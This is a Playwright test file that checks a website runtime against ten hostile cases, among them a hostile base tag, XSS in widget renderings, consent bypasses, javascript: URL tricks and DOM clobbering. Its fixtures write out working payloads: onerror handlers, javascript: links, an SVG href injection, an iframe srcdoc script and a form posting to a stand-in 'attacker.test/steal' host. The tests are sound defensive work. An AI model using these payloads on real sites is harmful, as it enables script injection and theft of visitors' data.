/**
 * Issue 36, the third hardening round (docs/security.md#third-round): a `<base>` tag, an
 * echoed answer, a second cookie, a recorder, a script address the URL parser reads
 * differently, named images, Escape on a half-filled form and a foreign page cannot get past
 * the runtime or the QA server. One fixture per item, under fixtures/pages/hostile/; each
 * test of an attack has a test of the legitimate path beside it.
 */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Page } from './support/test.ts';
import { collectConsole, recordedRequests, respondWith } from './support/qa.ts';
import { censusSettled, trackingCookies } from './census-helpers.ts';

const initialized = (page: Page) => page.waitForFunction(() => document.documentElement.dataset.siteInitialized === 'true');
const servicesReady = (page: Page) => page.waitForFunction(() => document.documentElement.dataset.siteServices === 'ready');
const cores = (page: Page, n: number) => page.addInitScript((count) => Object.defineProperty(navigator, 'hardwareConcurrency', { get: () => count }), n);
const RENDERING = '/api/widget/GetWidgetRendering';

/** Every request to `*.attacker.test`, answered as that origin would: a script that marks the page, or a rendering with a handler. */
async function attacker(page: Page): Promise<string[]> {
  const seen: string[] = [];
  await page.route(/^https:\/\/[^/]*attacker\.test\//, (route) => {
    seen.push(route.request().url());
    const url = route.request().url();
    if (url.includes('/api/')) {
      return route.fulfill({
        contentType: 'application/json',
        headers: { 'Access-Control-Allow-Origin': '*' },
        body: JSON.stringify({ html: '<img src="x" onerror="window.qaPwned = true"><p>From elsewhere</p>', success: true }),
      });
    }
    return route.fulfill({
      contentType: 'text/javascript',
      headers: { 'Access-Control-Allow-Origin': '*' },
      body: 'window.qaPwned = true; export function mount() {}',
    });
  });
  return seen;
}

test.describe('items 1 and 2: a <base href> on another origin in the body', () => {
  test("chunks still load from the loader's folder; the rendering, its crumb and the form answers go to the site's own /api", async ({
    page,
    context,
    baseURL,
  }) => {
    const elsewhere = await attacker(page);
    await context.addCookies([{ name: 'crumb', value: 'qa-crumb-36', url: baseURL! }]);
    const { pageErrors } = collectConsole(page);
    await page.goto('/fixtures/hostile/base-href.html');
    await initialized(page);
    // The page's base really is the other origin: relative addresses would go there.
    expect(await page.evaluate(() => document.baseURI)).toBe('https://cdn.attacker.test/site/');

    // Item 1: the accordion's chunk came from the loader's folder, and works.
    await expect(page.locator('#block-acc')).toHaveAttribute('data-block-state', 'ready');
    await page.getByRole('button', { name: 'Opening hours' }).click();
    await expect(page.getByRole('button', { name: 'Opening hours' })).toHaveAttribute('aria-expanded', 'true');

    // Item 2: the summary's rendering is the site's, asked of the site with the crumb.
    await expect(page.locator('#block-summary-events')).toHaveAttribute('data-block-state', 'ready');
    await expect(page.locator('#block-summary-events .widget-rendering')).toHaveText(/^Server rendering of the \d+ widget$/);
    const rendering = await recordedRequests(page.request, RENDERING);
    expect(rendering.map((r) => r.query.crumb)).toEqual(['qa-crumb-36']);

    // The visitor's form answers reach the site's own /api.
    await page.getByLabel('Email').fill('grace@example.com');
    await page.getByRole('button', { name: 'Send' }).click();
    await expect(page.locator('.form-submission-text')).toContainText('Thank you!');
    const saved = await recordedRequests(page.request, '/api/form/SaveFormSubmission');
    expect(saved).toHaveLength(1);
    expect(JSON.stringify(saved[0]!.form)).toContain('grace@example.com');

    expect(elsewhere).toEqual([]);
    expect(await page.evaluate(() => (window as { qaPwned?: unknown }).qaPwned ?? null)).toBeNull();
    expect(pageErrors).toEqual([]);
    await page.screenshot({ path: '/tmp/shots/hostile-base-href.png' });
  });
});

test.describe('item 3: widget renderings are sanitized', () => {
  const hostileRendering = {
    html:
      '<div class="summary-item" data-type="event"><a href="/fixtures/hostile/links.html" class="summary-title-link">Harbor night market</a>' +
      '<img src="/fixtures/hostile/no-such-image.png" alt="" onerror="document.documentElement.dataset.pwned = \'img\'">' +
      '<a href="javascript:document.documentElement.dataset.pwned=\'link\'">Claim</a>' +
      '<svg><a><animate attributeName="href" values="javascript:document.documentElement.dataset.pwned=\'svg\'"></animate><text y="10">Tap</text></a></svg>' +
      '<form action="https://forms.attacker.test/steal"><input name="card"><button>Pay</button></form>' +
      '<iframe srcdoc="<script>parent.document.documentElement.dataset.pwned = \'frame\'</script>"></iframe></div>',
  };

  test('an <img onerror> in a summary or search rendering never runs; the content and its classes, data and links stay', async ({ page, request }) => {
    const { pageErrors } = collectConsole(page);
    await respondWith(request, { method: 'POST', path: RENDERING, status: 200, body: hostileRendering, times: 2 });
    await page.goto('/fixtures/hostile/rendering-handlers.html');
    await initialized(page);
    for (const id of ['#block-summary-events', '#block-search']) {
      const block = page.locator(id);
      await expect(block).toHaveAttribute('data-block-state', 'ready');
      await expect(block.getByRole('link', { name: 'Harbor night market' })).toHaveAttribute('href', '/fixtures/hostile/links.html');
      await expect(block.locator('.summary-item')).toHaveAttribute('data-type', 'event');
      await expect(block.locator('[onerror], form, iframe, animate, svg a')).toHaveCount(0);
      await expect(block.getByText('Claim')).not.toHaveAttribute('href', /./);
      // The image is in the page and has failed to load: its handler had its chance.
      await expect.poll(() => block.locator('img').evaluate((img: HTMLImageElement) => img.complete)).toBe(true);
    }
    await page.getByText('Claim').first().click();
    expect(await page.evaluate(() => document.documentElement.dataset.pwned ?? null)).toBeNull();
    expect(pageErrors).toEqual([]);
  });

  test('the legitimate rendering still shows as the server wrote it', async ({ page }) => {
    await page.goto('/fixtures/hostile/rendering-handlers.html');
    await initialized(page);
    const events = page.locator('#block-summary-events .widget-rendering');
    await expect(events).toHaveText(/^Server rendering of the \d+ widget$/);
    await expect(events).toHaveAttribute('data-collection-id', 'c-events');
    await expect(page.locator('#block-search .widget-rendering')).toHaveAttribute('data-widget-id', 'block-search');
  });
});

test.describe('item 4: session recording waits for consent, as the census does', () => {
  const recorder = (page: Page): string[] => {
    const urls: string[] = [];
    page.on('request', (r) => r.url().endsWith('/fixtures/clients/recorder.js') && urls.push(r.url()));
    return urls;
  };

  test('with the decline stored and a restrictive policy, nothing loads and no cookie is set', async ({ page, context, baseURL }) => {
    await cores(page, 8);
    const scripts = recorder(page);
    await context.addCookies([{ name: 'ss_cookieAllowed', value: 'false', url: baseURL! }]);
    await page.goto('/fixtures/hostile/recorder-consent.html');
    await censusSettled(page);
    expect(await recordedRequests(page.request, '/api/commerce/fullstory/getId')).toEqual([]);
    expect(scripts).toEqual([]);
    expect((await context.cookies()).map((c) => c.name).sort()).toEqual(['ss_cookieAllowed']);
    expect(await page.evaluate(() => document.documentElement.dataset.sessionRecorder ?? null)).toBeNull();
  });

  test('with no choice yet it waits; once the visitor accepts, the recorder starts', async ({ page, context }) => {
    await cores(page, 8);
    const scripts = recorder(page);
    await page.goto('/fixtures/hostile/recorder-consent.html');
    await censusSettled(page);
    expect(scripts).toEqual([]);
    await page.getByRole('region', { name: 'Cookie consent' }).getByRole('button', { name: 'Accept' }).click();
    await expect(page.locator('html')).toHaveAttribute('data-session-recorder', 'qa-fullstory-id');
    expect(scripts).toHaveLength(1);
    expect((await context.cookies()).map((c) => c.name)).toContain('fs_uid');
  });
});

test.describe('item 5: a second consent cookie does not override a decline', () => {
  test("ss_cookieAllowed=true on a longer path beside the visitor's false: no census hit, no tracking cookie", async ({ page, context, baseURL }) => {
    await context.addCookies([
      { name: 'ss_cookieAllowed', value: 'false', url: baseURL! },
      { name: 'ss_cookieAllowed', value: 'true', domain: '127.0.0.1', path: '/fixtures/hostile/' },
    ]);
    await page.goto('/fixtures/hostile/consent-cookies.html');
    // The planted one comes first in the page's cookie string.
    expect(await page.evaluate(() => document.cookie)).toBe('ss_cookieAllowed=true; ss_cookieAllowed=false');
    await censusSettled(page);
    expect(await recordedRequests(page.request, '/api/census/RecordHit')).toEqual([]);
    expect(await trackingCookies(page)).toEqual([]);
  });

  test('one ss_cookieAllowed=true: the census sends its hit', async ({ page, context, baseURL }) => {
    await context.addCookies([{ name: 'ss_cookieAllowed', value: 'true', url: baseURL! }]);
    await page.goto('/fixtures/hostile/consent-cookies.html');
    await censusSettled(page);
    expect(await recordedRequests(page.request, '/api/census/RecordHit')).toHaveLength(1);
  });
});

test.describe('item 6: the native bridge judges the back address as the URL parser does', () => {
  const press = async (page: Page, name: string) => {
    await page.getByRole('button', { name }).click();
    const result = page.locator('#result');
    await expect(result).not.toHaveText(/none yet|pending/);
    return result.textContent();
  };

  test('java\\nscript: and \\x01javascript: are refused; nothing runs and the page stays', async ({ page }) => {
    await page.goto('/fixtures/hostile/bridge-back.html?platform=mobile-app');
    await initialized(page);
    for (const name of ['Close (newline)', 'Close (control character)']) {
      expect(await press(page, name)).toContain('must not be a script');
    }
    expect(await page.title()).toBe("Hostile: the native bridge's back address");
    expect(new URL(page.url()).pathname).toBe('/fixtures/hostile/bridge-back.html');
  });

  test('an https back address is followed', async ({ page }) => {
    await page.route('https://app.example/back', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<title>Back in the app</title><h1>Back in the app</h1>' }),
    );
    await page.goto('/fixtures/hostile/bridge-back.html?platform=mobile-app');
    await initialized(page);
    await page.getByRole('button', { name: 'Close (https)' }).click();
    await expect(page.getByRole('heading', { name: 'Back in the app' })).toBeVisible();
    expect(page.url()).toBe('https://app.example/back');
  });
});

test.describe('item 7: an <img name="body"> beside the 7.1 header', () => {
  for (const width of [390, 1280]) {
    test(`the burger opens the menu on the real <body> (${width} px)`, async ({ page }) => {
      await page.setViewportSize({ width, height: 800 });
      const { pageErrors } = collectConsole(page);
      await page.goto('/fixtures/hostile/named-header.html');
      await expect(page.locator('#header')).toHaveAttribute('data-block-state', 'ready');
      const burger = page.locator('.header-burger-btn');
      await burger.click();
      await expect(burger).toHaveAttribute('aria-expanded', 'true');
      expect(await page.evaluate(() => Reflect.get(Document.prototype, 'body', document).classList.contains('header--menu-open'))).toBe(true);
      await expect(page.locator('img[name="body"]')).not.toHaveClass(/header--menu-open/);
      await expect(page.locator('.header-menu').getByRole('link', { name: 'Program' })).toBeVisible();
      await page.keyboard.press('Escape');
      await expect(burger).toHaveAttribute('aria-expanded', 'false');
      expect(await page.evaluate(() => Reflect.get(Document.prototype, 'body', document).classList.contains('header--menu-open'))).toBe(false);
      expect(pageErrors).toEqual([]);
    });
  }
});

test('item 8: images named addEventListener, createElement… stop neither the census hit nor the landing beacon', async ({ page }) => {
  const { pageErrors } = collectConsole(page);
  await page.goto('/fixtures/hostile/named-census.html');
  await censusSettled(page);
  const hits = await recordedRequests(page.request, '/api/census/RecordHit');
  expect(hits).toHaveLength(1);
  const beacons = await recordedRequests(page.request, '/api/track/Track');
  expect(beacons).toHaveLength(1);
  expect(beacons[0]!.query.landing).toContain('/fixtures/hostile/named-census.html');
  expect(pageErrors).toEqual([]);
});

test.describe('item 9: Escape never leaves a half-filled form', () => {
  const outcome = (page: Page) => page.locator('html');

  test('typed data in the form block, focus on its checkbox or the button: Escape stays and keeps it', async ({ page }) => {
    await page.goto('/fixtures/hostile/escape-form.html');
    await servicesReady(page);
    await expect(page.locator('#block-form')).toHaveAttribute('data-block-state', 'ready');
    await page.getByLabel('Name').fill('Grace Hopper');
    await page.getByLabel('Send me the menu').focus();
    await page.keyboard.press('Escape');
    await expect(outcome(page)).toHaveAttribute('data-site-escape', 'typed-data');
    await page.getByRole('button', { name: 'Book' }).focus();
    await page.keyboard.press('Escape');
    await expect(outcome(page)).toHaveAttribute('data-site-escape', 'typed-data');
    expect(new URL(page.url()).pathname).toBe('/fixtures/hostile/escape-form.html');
    await expect(page.getByLabel('Name')).toHaveValue('Grace Hopper');
  });

  test("a contributor's form with a ticked box, focus on its button: Escape stays", async ({ page }) => {
    await page.goto('/fixtures/hostile/escape-form.html');
    await servicesReady(page);
    await page.getByLabel('Vegetarian').check();
    await page.getByRole('button', { name: 'Save note' }).focus();
    await page.keyboard.press('Escape');
    await expect(outcome(page)).toHaveAttribute('data-site-escape', 'typed-data');
    expect(new URL(page.url()).pathname).toBe('/fixtures/hostile/escape-form.html');
    await expect(page.getByLabel('Vegetarian')).toBeChecked();
  });

  test('with nothing typed, Escape still goes to log in', async ({ page }) => {
    await page.goto('/fixtures/hostile/escape-form.html');
    await servicesReady(page);
    await page.getByRole('button', { name: 'Save note' }).focus();
    await page.keyboard.press('Escape');
    await expect.poll(() => new URL(page.url()).pathname).toBe('/config/');
  });
});

test("item 10: an image from another origin neither takes the tester's scripted answer nor plants a log entry", async ({ page, request, baseURL }) => {
  await respondWith(request, { method: 'GET', path: '/api/qa/echo', status: 200, body: { scripted: 'for the tester' } });
  const html = await (await request.get('/fixtures/hostile/qa-server.html')).text();
  const foreign = createServer((_req, res) => res.writeHead(200, { 'Content-Type': 'text/html' }).end(html));
  await new Promise<void>((done) => foreign.listen(0, '127.0.0.1', done));
  try {
    await page.goto(`http://127.0.0.1:${(foreign.address() as AddressInfo).port}/`);
    // An image request: no Origin header, only Sec-Fetch-Site says it is another site's.
    const status = await page.evaluate(
      (qa) =>
        new Promise<string>((resolve) => {
          const img = new Image();
          img.onload = () => resolve('loaded');
          img.onerror = () => resolve('failed');
          img.src = `${qa}/api/qa/echo?planted=1`;
        }),
      baseURL!,
    );
    expect(status).toBe('failed');
  } finally {
    foreign.close();
  }
  expect((await recordedRequests(request)).filter((r) => r.query.planted)).toEqual([]);
  // The tester's own call still gets the answer it scripted.
  expect(await (await request.get('/api/qa/echo')).json()).toEqual({ scripted: 'for the tester' });
});
